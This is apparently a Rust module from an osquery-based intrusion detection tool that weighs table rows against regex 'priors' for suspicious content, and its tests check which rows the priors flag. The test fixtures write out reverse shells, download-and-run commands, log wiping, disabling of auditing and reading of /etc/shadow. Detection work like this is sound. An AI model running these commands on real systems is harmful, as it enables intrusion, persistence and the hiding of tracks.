//! Content priors: what a row that stands out says by itself, from the `[[prior]]` entries of its table's schema.
//!
//! A small additive term. Priors never make a row a finding, and are never looked up for rows that nobody shows.

use std::borrow::Cow;
use std::collections::{BTreeMap, BTreeSet, HashMap};

use regex::bytes::{RegexSet, RegexSetBuilder};
use roaring::RoaringBitmap;
use serde_json::Value;

use super::candidate::{Candidate, Subject};
use super::lines::{Lines, Loaded};
use super::places::is_rare;
use super::score::of_bits;
use crate::catalog::{PATTERN_BYTES, Pattern, PriorSpec, TableSpec};
use crate::error::{Error, Result};
use crate::model::{FindingKind, Row};

/// The most that the priors of one row add together, in bits.
pub(super) const MOST_BITS: f64 = 3.0;
/// Share of its score that a row loses by each bit of routine.
const ROUTINE: f64 = 0.3;
/// How much of a value is looked at. Matching is linear, and a cell has up to a megabyte.
const MOST_BYTES: usize = 64 << 10;

/// What the priors say of one line.
#[derive(Debug, Clone, PartialEq)]
pub(super) struct LinePrior {
    /// Added to the surprise of the row, within [`MOST_BITS`]; below zero for what routine leaves.
    pub(super) bits: f64,
    /// The phrases, the weightiest first, to be read after `it`.
    says: Vec<String>,
}

/// The priors of one table, compiled.
#[derive(Debug)]
pub(super) struct Priors {
    columns: Vec<Column>,
    rules: Vec<Rule>,
}

/// All patterns that look at one column: it is searched once.
#[derive(Debug)]
struct Column {
    name: String,
    patterns: RegexSet,
}

/// Where the outcome of a pattern stands: column, and pattern of that column.
type At = (usize, usize);

#[derive(Debug)]
struct Rule {
    bits: f64,
    says: String,
    any: Vec<At>,
    all: Vec<At>,
    none: Vec<At>,
}

impl Priors {
    /// Compiles the priors of a table.
    ///
    /// # Errors
    /// The patterns of one column are too large together; each alone was checked with the schema.
    pub(super) fn new(spec: &TableSpec) -> Result<Self> {
        let mut patterns: Vec<(String, Vec<&str>)> = Vec::new();
        let mut rules: Vec<Rule> = spec.priors.iter().map(|prior| Rule::new(prior, &mut patterns)).collect();
        rules.sort_by(|a, b| b.bits.total_cmp(&a.bits));
        let compile = |(name, patterns): (String, Vec<&str>)| {
            let limit = PATTERN_BYTES * patterns.len();
            let set = RegexSetBuilder::new(patterns).unicode(false).size_limit(limit).build();
            let patterns = set.map_err(|source| {
                Error::config("the priors of a column are too large together")
                    .source(source)
                    .with("table", &spec.name)
                    .with("column", &name)
            })?;
            Ok(Column { name, patterns })
        };
        Ok(Self { columns: patterns.into_iter().map(compile).collect::<Result<_>>()?, rules })
    }

    /// No priors: what `--priors off` uses.
    pub(super) fn none() -> Self {
        Self { columns: Vec::new(), rules: Vec::new() }
    }

    /// What the priors say of the lines of a table, by line. A prior that many hosts fulfil says little: of its bits
    /// remains `log2(hosts / hosts that fulfil it) / log2(hosts)`.
    pub(super) fn of_table(&self, table: &Loaded<'_>) -> HashMap<usize, LinePrior> {
        let lines = &table.lines;
        // A row of many hosts does not stand out, whatever it says.
        let heard = table.answers.heard.len();
        let mut fulfilled: BTreeMap<usize, Vec<&Rule>> = BTreeMap::new();
        for line in self.lines_that_match(lines) {
            if !is_rare(lines.lines[line].members.len(), heard) {
                continue;
            }
            let rules = self.rules_of(&lines.row(line));
            if !rules.is_empty() {
                fulfilled.insert(line, rules);
            }
        }
        let mut hosts: HashMap<&str, RoaringBitmap> = HashMap::new();
        for (line, rules) in &fulfilled {
            for rule in rules {
                *hosts.entry(&rule.says).or_default() |= &lines.lines[*line].members;
            }
        }
        let all = (heard as f64).max(2.0);
        let rarity =
            |rule: &&Rule| (all / hosts[rule.says.as_str()].len() as f64).log2().max(0.0) / all.log2();
        let of_line = |(line, rules): (usize, Vec<&Rule>)| {
            let bits: f64 = rules
                .iter()
                .map(|rule| if rule.bits < 0.0 { rule.bits } else { rule.bits * rarity(rule) })
                .sum();
            let says = rules.iter().map(|rule| rule.says.clone()).collect();
            (line, LinePrior { bits: bits.clamp(-MOST_BITS, MOST_BITS), says })
        };
        fulfilled.into_iter().map(of_line).collect()
    }

    /// Lines of which any value matches any pattern; one that is not known is nothing.
    fn lines_that_match(&self, lines: &Lines) -> BTreeSet<usize> {
        let mut found = BTreeSet::new();
        for column in &self.columns {
            let Some(cells) = lines.cells(&column.name) else { continue };
            let matches =
                |text: &str| column.patterns.is_match(&text.as_bytes()[..text.len().min(MOST_BYTES)]);
            let by_code: Vec<bool> = cells.distinct().map(matches).collect();
            let nothing = matches("");
            let is_found = |code: &u32| by_code.get(*code as usize).copied().unwrap_or(nothing);
            found.extend((0..).zip(&cells.codes).filter(|(_, code)| is_found(code)).map(|(line, _)| line));
        }
        found
    }

    /// The priors that a row fulfils, the weightiest first. A value that is unknown matches nothing.
    fn rules_of(&self, row: &Row) -> Vec<&Rule> {
        let found: Vec<_> = self.columns.iter().map(|column| column.search(row)).collect();
        let holds = |at: &At| found[at.0].as_ref().is_some_and(|found| found.matched(at.1));
        let rules: Vec<&Rule> = self.rules.iter().filter(|rule| rule.applies(&holds)).collect();
        // What an intruder does is no routine.
        let is_bad = rules.iter().any(|rule| rule.bits > 0.0);
        rules.into_iter().filter(|rule| !is_bad || rule.bits > 0.0).collect()
    }
}

/// Adds to the scores what the contents of the rows say, and tells the candidates. An absence, and an answer that did not
/// come, have no content.
pub(super) fn weigh(lines: &HashMap<usize, LinePrior>, candidates: &mut [Candidate], scores: &mut [f64]) {
    for (candidate, score) in candidates.iter_mut().zip(scores) {
        let Subject::Line(line) = candidate.subject else { continue };
        let Some(prior) = lines.get(&line).filter(|_| candidate.kind != FindingKind::Missing) else {
            continue;
        };
        *score = weighed(*score, prior.bits, candidate.hosts_answered);
        candidate.says.clone_from(&prior.says);
    }
}

/// A score with what the content says: bits that speak for an intruder are added; each bit of routine takes 30 %.
fn weighed(score: f64, bits: f64, hosts_answered: u64) -> f64 {
    if bits < 0.0 {
        return score * (1.0 - ROUTINE).powf(-bits);
    }
    (score + bits * of_bits(1.0, hosts_answered)).min(100.0)
}

impl Column {
    fn search(&self, row: &Row) -> Option<regex::bytes::SetMatches> {
        let value = text(row.get(&self.name)?)?;
        Some(self.patterns.matches(&value.as_bytes()[..value.len().min(MOST_BYTES)]))
    }
}

impl Rule {
    fn new<'a>(prior: &'a PriorSpec, patterns: &mut Vec<(String, Vec<&'a str>)>) -> Self {
        let mut place = |column: &'a str, pattern: &'a Pattern| -> At {
            let known = patterns.iter().position(|(name, _)| name == column);
            let at = known.unwrap_or_else(|| {
                patterns.push((column.to_owned(), Vec::new()));
                patterns.len() - 1
            });
            patterns[at].1.push(pattern.as_str());
            (at, patterns[at].1.len() - 1)
        };
        Self {
            bits: prior.bits,
            says: prior.says.clone(),
            any: prior.columns.iter().map(|column| place(column, &prior.pattern)).collect(),
            all: prior.and.iter().map(|(column, pattern)| place(column, pattern)).collect(),
            none: prior.unless.iter().map(|(column, pattern)| place(column, pattern)).collect(),
        }
    }

    fn applies(&self, holds: &impl Fn(&At) -> bool) -> bool {
        self.any.iter().any(holds) && self.all.iter().all(holds) && !self.none.iter().any(holds)
    }
}

/// A value as osquery printed it.
fn text(value: &Value) -> Option<Cow<'_, str>> {
    match value {
        Value::Null => None,
        Value::String(text) => Some(Cow::Borrowed(text)),
        other => Some(Cow::Owned(other.to_string())),
    }
}

#[cfg(test)]
mod tests {
    use std::sync::LazyLock;

    use proptest::prelude::*;
    use serde_json::json;

    use super::super::testing::Fleet;
    use super::*;
    use crate::catalog::Catalog;

    fn row(value: Value) -> Row {
        serde_json::from_value(value).unwrap()
    }

    /// A few tables with priors, compiled once.
    static SOME: LazyLock<Vec<(TableSpec, Priors)>> = LazyLock::new(|| {
        let catalog = Catalog::builtin().unwrap();
        let tables = ["processes", "crontab", "shell_history", "users"];
        let compiled = |name| {
            let spec: &TableSpec = catalog.table(name).unwrap();
            (spec.clone(), Priors::new(spec).unwrap())
        };
        tables.into_iter().map(compiled).collect()
    });

    /// What the built-in priors of a table say of a row, and their bits.
    fn said(table: &str, value: Value) -> (f64, Vec<String>) {
        let catalog = Catalog::builtin().unwrap();
        let priors = Priors::new(catalog.table(table).unwrap()).unwrap();
        let rules = priors.rules_of(&row(value));
        let bits: f64 = rules.iter().map(|rule| rule.bits).sum();
        (bits.clamp(-MOST_BITS, MOST_BITS), rules.iter().map(|rule| rule.says.clone()).collect())
    }

    #[track_caller]
    fn speaks(table: &str, value: Value, expected: &str) {
        let (bits, says) = said(table, value.clone());
        assert!(bits >= 0.5 && says.iter().any(|says| says.contains(expected)), "{table} {value}: {says:?}");
    }

    #[track_caller]
    fn silent(table: &str, value: Value) {
        let (bits, says) = said(table, value.clone());
        assert!(bits <= 0.0, "{table} {value}: {says:?}");
    }

    #[test]
    fn all_conditions_of_a_prior_must_hold_and_the_sum_is_bounded() {
        let (bits, says) = said("users", json!({"username": "toor", "uid": 0}));
        assert_eq!((bits, says.len()), (3.0, 1));
        silent("users", json!({"username": "root", "uid": 0, "directory": "/root", "shell": "/bin/bash"}));
        let (bits, says) = said("users", json!({"username": "toor", "uid": 0, "directory": "/tmp/.x"}));
        assert_eq!((bits, says.len()), (MOST_BITS, 3), "{says:?}");
    }

    #[test]
    fn priors_add_and_routine_takes() {
        assert_eq!(weighed(30.0, 1.2, 64), 50.0);
        assert_eq!(weighed(80.0, 3.0, 64), 100.0);
        assert!(weighed(60.0, -3.0, 64) < 30.0);
    }

    #[test]
    fn a_prior_that_many_hosts_fulfil_says_little() {
        let mut fleet = Fleet::new(64, |host| format!("web-{host}"));
        fleet.row("shell_history", "username=a|command=unset HISTFILE", [3]);
        fleet.row("shell_history", "username=a|command=chattr +i /etc/passwd", 0..6);
        fleet.row("shell_history", "username=a|command=ls", 0..64);
        let loaded = fleet.loaded();
        let found = Priors::new(&loaded[0].lines.spec).unwrap().of_table(&loaded[0]);
        let mut bits: Vec<f64> = found.values().map(|prior| prior.bits).collect();
        bits.sort_by(f64::total_cmp);
        assert!(bits.len() == 2 && bits[0] < bits[1] && bits[1] >= 1.0, "{found:?}");
    }

    #[test]
    fn what_an_intruder_does_is_no_routine() {
        let scope =
            json!({"id": "session-7.scope", "fragment_path": "/run/systemd/transient/session-7.scope"});
        assert!(said("systemd_units", scope).0 < 0.0);
        let bad = json!({"id": "session-7.scope", "fragment_path": "/tmp/session-7.scope"});
        assert!(said("systemd_units", bad).0 > 0.0);
        assert!(Priors::none().rules_of(&row(json!({"username": "toor", "uid": 0}))).is_empty());
    }

    #[test]
    fn what_intruders_do_is_said() {
        speaks("processes", json!({"path": "/tmp/x", "name": "x"}), "anybody may write");
        speaks("processes", json!({"path": "/usr/share/.x/y"}), "hidden");
        speaks("processes", json!({"path": "/memfd:a (deleted)", "on_disk": 0}), "from memory");
        speaks("processes", json!({"path": "/opt2/a", "on_disk": "0"}), "deleted");
        speaks("processes", json!({"path": "/usr/bin/x", "name": "kworker/0:1"}), "kernel thread");
        speaks("processes", json!({"cmdline": "bash -c bash -i >& /dev/tcp/192.0.2.1/443 0>&1"}), "/dev/tcp");
        speaks("processes", json!({"cmdline": "nc -e /bin/sh 192.0.2.1 443"}), "hands a shell");
        speaks("processes", json!({"cmdline": "sh -c echo aQ== | base64 -d | bash"}), "decodes");
        speaks("processes", json!({"cmdline": "sh -c curl -s http://192.0.2.1/a|sh"}), "pipes a download");
        speaks("processes", json!({"name": "sh", "parent_name": "nginx"}), "network service");
        speaks("processes", json!({"cmdline": "python3 -c import socket,os"}), "opens connections");
        speaks("processes", json!({"cmdline": "a -o stratum+tcp://pool:3333 -u w"}), "miner");
        speaks("processes", json!({"euid": 0, "uid": 1000, "path": "/usr/bin/x"}), "rights of root");
        speaks(
            "listening_ports",
            json!({"name": "nc", "port": 4444, "address": "0.0.0.0"}),
            "netcat that listens",
        );
        speaks("listening_ports", json!({"name": "x", "port": 0, "protocol": 255}), "raw packets");
        speaks(
            "process_open_sockets",
            json!({"name": "bash", "remote_port": 443, "remote_address": "192.0.2.1"}),
            "shell",
        );
        speaks(
            "process_open_sockets",
            json!({"name": "cron", "remote_port": 443, "remote_address": "192.0.2.1"}),
            "business",
        );
        speaks("crontab", json!({"command": "root wget -qO- http://192.0.2.1/x | bash"}), "pipes a download");
        speaks("crontab", json!({"command": "root /dev/shm/.x/run"}), "anybody may write");
        speaks("crontab", json!({"command": "bash $(curl -s http://192.0.2.1)"}), "pipes a download");
        speaks("systemd_units", json!({"fragment_path": "/tmp/x.service"}), "no units belong");
        speaks("users", json!({"username": "x", "uid": 99, "shell": "/bin/bash"}), "system account");
        speaks(
            "shadow",
            json!({"username": "www-data", "password_status": "active"}),
            "service with a password",
        );
        speaks("user_groups", json!({"username": "x", "groupname": "docker"}), "nearly root");
        speaks("authorized_keys", json!({"username": "root"}), "as root");
        speaks("authorized_keys", json!({"options": "environment=\"LD_PRELOAD=/x.so\""}), "library");
        speaks("sudoers", json!({"header": "x", "rule_details": "ALL=(ALL) NOPASSWD: ALL"}), "no password");
        speaks(
            "sudoers",
            json!({"header": "Defaults", "rule_details": "env_keep += LD_PRELOAD"}),
            "libraries",
        );
        speaks("suid_bin", json!({"path": "/usr/bin/find", "permissions": "S"}), "start a shell");
        speaks("suid_bin", json!({"path": "/var/www/x", "permissions": "S"}), "do not belong");
        speaks(
            "etc_hosts",
            json!({"hostnames": "security.ubuntu.com", "address": "127.0.0.1"}),
            "unreachable",
        );
        speaks("etc_hosts", json!({"hostnames": "pypi.org", "address": "192.0.2.1"}), "diverts");
        for (command, expected) in [
            ("unset HISTFILE", "hides"),
            ("ln -sf /dev/null ~/.bash_history", "hides"),
            ("chattr +i /etc/passwd", "unchangeable"),
            ("chmod u+s /bin/x", "setuid"),
            ("useradd -o -u 0 -g 0 x", "user id 0"),
            ("iptables -F", "firewall"),
            ("setenforce 0", "protection"),
            ("systemctl disable --now auditd", "watches"),
            ("rm -rf /var/log/auth.log", "logs"),
            ("cat /etc/shadow", "passwords"),
            ("touch -r /bin/ls /tmp/x", "time of a file"),
        ] {
            speaks("shell_history", json!({ "command": command }), expected);
        }
        speaks("process_envs", json!({"key": "LD_PRELOAD", "value": "/lib/x.so"}), "library");
        speaks("process_envs", json!({"key": "HISTFILE", "value": "/dev/null"}), "history");
        speaks("mounts", json!({"path": "/proc/4711"}), "hides it");
        speaks("hash", json!({"path": "/etc/ld.so.preload"}), "every program");
        speaks(
            "file",
            json!({"path": "/tmp/a", "mode": "0755", "type": "regular"}),
            "program in a directory",
        );
        speaks("docker_containers", json!({"privileged": 1}), "all rights");
        speaks("docker_container_mounts", json!({"source": "/"}), "all files");
        let capable =
            json!({"path": "/usr/bin/python3.11", "key": "security.capability", "value": "cap_setuid=ep"});
        speaks("extended_attributes", capable, "start a shell");
        speaks("last", json!({"username": "www-data"}), "account of a service");
        speaks(
            "system_controls",
            json!({"name": "kernel.core_pattern", "current_value": "|/tmp/x %p"}),
            "start a program",
        );
    }

    #[test]
    fn what_honest_hosts_do_is_not() {
        let cron = json!({"name": "cron", "path": "/usr/sbin/cron", "cmdline": "/usr/sbin/cron -f", "on_disk": 1,
            "euid": 0, "uid": 0, "parent_name": "systemd"});
        silent("processes", cron);
        silent("processes", json!({"name": "kworker/0:1-events", "path": "", "cmdline": "", "on_disk": -1}));
        silent(
            "processes",
            json!({"name": "node", "path": "/root/.nvm/versions/node/v20/bin/node", "on_disk": 1}),
        );
        silent("processes", json!({"name": "sh", "path": "/usr/bin/dash", "parent_name": "sshd"}));
        silent("processes", json!({"cmdline": "/bin/sh /usr/bin/mysqld_safe --datadir=/var/lib/mysql"}));
        silent("processes", json!({"cmdline": "curl -s https://example.org/health -o /dev/null"}));
        silent(
            "listening_ports",
            json!({"name": "sshd", "port": 22, "address": "0.0.0.0", "process_path": "/usr/sbin/sshd"}),
        );
        silent("listening_ports", json!({"name": "chronyd", "port": 323, "protocol": 17, "family": 2}));
        silent(
            "process_open_sockets",
            json!({"name": "python3", "remote_port": 443, "remote_address": "192.0.2.1"}),
        );
        silent(
            "process_open_sockets",
            json!({"name": "python3", "remote_port": 9000, "remote_address": "10.1.2.3"}),
        );
        silent("crontab", json!({"command": "root find /tmp -mtime +7 -delete"}));
        silent("crontab", json!({"command": "root test -x /usr/sbin/anacron || run-parts /etc/cron.daily"}));
        silent("crontab", json!({"command": "/root/.acme.sh/acme.sh --cron > /dev/null"}));
        silent(
            "users",
            json!({"username": "www-data", "uid": 33, "gid": 33, "directory": "/var/www", "shell": "/usr/sbin/nologin"}),
        );
        silent("suid_bin", json!({"path": "/usr/bin/passwd", "permissions": "S"}));
        silent("etc_hosts", json!({"hostnames": "db1.internal", "address": "10.0.0.7"}));
        silent("shell_history", json!({"command": "systemctl restart nginx"}));
        silent("shell_history", json!({"command": "tail -f /var/log/syslog > /tmp/x.log"}));
        silent("process_envs", json!({"key": "PATH", "value": "/usr/local/sbin:/usr/bin:/bin"}));
        silent("mounts", json!({"path": "/proc/sys/fs/binfmt_misc", "type": "autofs"}));
        silent("file", json!({"path": "/tmp/.X11-unix", "mode": "1777", "type": "directory"}));
        silent(
            "file",
            json!({"path": "/usr/bin/awk", "mode": "0777", "type": "regular", "symlink": 1, "uid": 0}),
        );
        silent(
            "extended_attributes",
            json!({"path": "/usr/bin/ping", "key": "security.capability", "value": "cap_net_raw=ep"}),
        );
        silent(
            "sudoers",
            json!({"header": "%sudo", "rule_details": "ALL=(ALL:ALL) ALL", "source": "/etc/sudoers"}),
        );
    }

    #[test]
    fn every_builtin_prior_compiles_and_can_be_read_after_it() {
        for spec in Catalog::builtin().unwrap().tables() {
            Priors::new(spec).unwrap();
            for prior in &spec.priors {
                let verb = prior.says.split(' ').next().unwrap_or_default();
                assert!(
                    (verb.ends_with('s') || ["may", "cannot"].contains(&verb)) && !prior.says.ends_with('.'),
                    "{}: {}",
                    spec.name,
                    prior.says
                );
            }
        }
    }

    proptest! {
        #[test]
        fn hostile_values_never_panic(value in "(?s).{0,300}", number in any::<i64>(), kind in 0_usize..4) {
            for (spec, priors) in &*SOME {
                let value = [json!(value), json!(number), Value::Null, json!([value, {"a": number}])][kind].clone();
                let row: Row = spec.columns.iter().map(|column| (column.name.clone(), value.clone())).collect();
                prop_assert!(priors.rules_of(&row).len() <= spec.priors.len());
            }
        }
    }
}
